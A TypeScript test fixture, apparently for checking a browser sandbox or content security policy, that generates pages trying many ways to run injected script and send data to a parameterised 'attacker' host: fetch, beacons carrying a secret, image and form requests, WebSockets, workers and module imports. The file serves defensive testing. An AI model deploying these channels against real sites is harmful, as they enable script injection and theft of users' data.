/** A page that tries to run code from text and to reach `attacker` in every way that a page alone can. */
export const attackPages = (attacker: string): Record<string, string> => ({
  'index.html': `<!doctype html>
<html><head><meta charset="utf-8"><title>Attacks</title>
<script src="./start.js"></script>
<script>ran('inline')</script>
<script src="${attacker}/script-tag"></script>
<link rel="stylesheet" href="${attacker}/stylesheet">
<link rel="prefetch" href="${attacker}/prefetch">
<link rel="manifest" href="${attacker}/manifest">
</head><body onload="ran('onload')">
<img src="${attacker}/image">
<img src="./absent.png" onerror="ran('onerror')">
<svg onload="ran('svg')"><image href="${attacker}/svg-image" /></svg>
<iframe src="${attacker}/frame"></iframe>
<iframe srcdoc="<script>parent.ran('srcdoc')</script>"></iframe>
<object data="${attacker}/object"></object>
<embed src="${attacker}/embed">
<video src="${attacker}/video" autoplay></video>
<audio src="${attacker}/audio" autoplay></audio>
<video poster="${attacker}/poster"></video>
<div style="background: url(${attacker}/inline-style); height: 9px"></div>
<form id="form" action="${attacker}/form" method="post"><input name="secret" value="1"></form>
<a id="link" href="${attacker}/link" target="_blank">link</a>
<a id="ping" href="#ping" ping="${attacker}/ping">ping</a>
<script type="module" src="./attack.js"></script>
</body></html>`,
  // Code that ran is recorded, and reported to the attacker: the page may be led away before it is asked.
  'start.js': `globalThis.taken = { finished: false, ran: [], stopped: [] };
globalThis.ran = (name) => { taken.ran.push(name); new Image().src = '${attacker}/ran/' + name; };
addEventListener('securitypolicyviolation', (event) => taken.stopped.push(event.blockedURI));`,
  'attack.js': `
const tries = {
  eval: () => eval("ran('eval')"),
  function: () => new Function("ran('function')")(),
  timeout: () => setTimeout("ran('timeout')"),
  innerHTML: () => { document.body.insertAdjacentHTML('beforeend', '<img src=x onerror="ran(\\'inserted\\')">'); },
  scriptText: () => { const s = document.createElement('script'); s.textContent = "ran('script text')"; document.body.append(s); },
  scriptSource: () => { const s = document.createElement('script'); s.src = '${attacker}/added-script'; document.body.append(s); },
  javascript: () => { location.href = "javascript:ran('javascript')"; },
  policy: () => { trustedTypes.createPolicy('mine', { createHTML: (x) => x }); ran('policy'); },
  fetch: () => fetch('${attacker}/fetch'),
  noCors: () => fetch('${attacker}/no-cors', { mode: 'no-cors' }),
  request: () => { const x = new XMLHttpRequest(); x.open('GET', '${attacker}/xhr'); x.send(); },
  beacon: () => navigator.sendBeacon('${attacker}/beacon', 'secret'),
  events: () => { new EventSource('${attacker}/events'); },
  socket: () => { new WebSocket('${attacker.replace('http', 'ws')}/socket'); },
  module: () => import('${attacker}/module'),
  worker: () => { new Worker(URL.createObjectURL(new Blob(["fetch('${attacker}/worker')"]))); },
  serviceWorker: () => navigator.serviceWorker.register('./start.js').then(() => ran('service worker')),
  font: () => new FontFace('taken', 'url(${attacker}/font)').load(),
  image: () => { new Image().src = '${attacker}/new-image?secret=1'; },
  base: () => { const b = document.createElement('base'); b.href = '${attacker}/'; document.head.append(b); const i = new Image(); i.src = 'based'; b.remove(); },
  open: () => { window.open('${attacker}/open'); },
  link: () => document.getElementById('link').click(),
  ping: () => document.getElementById('ping').click(),
  form: () => { const f = document.getElementById('form'); f.target = 'nowhere'; f.submit(); },
  download: () => { const a = document.createElement('a'); a.href = '${attacker}/download'; a.download = 'x'; a.click(); },
};
// Some tries lead the page away: only once all that its text asks for has had its turn.
await new Promise((go) => (document.readyState === 'complete' ? go() : addEventListener('load', go)));
for (const attempt of Object.values(tries)) {
  try { Promise.resolve(attempt()).catch(() => undefined); } catch {}
}
setTimeout(() => { taken.finished = true; }, 1500);
`,
});
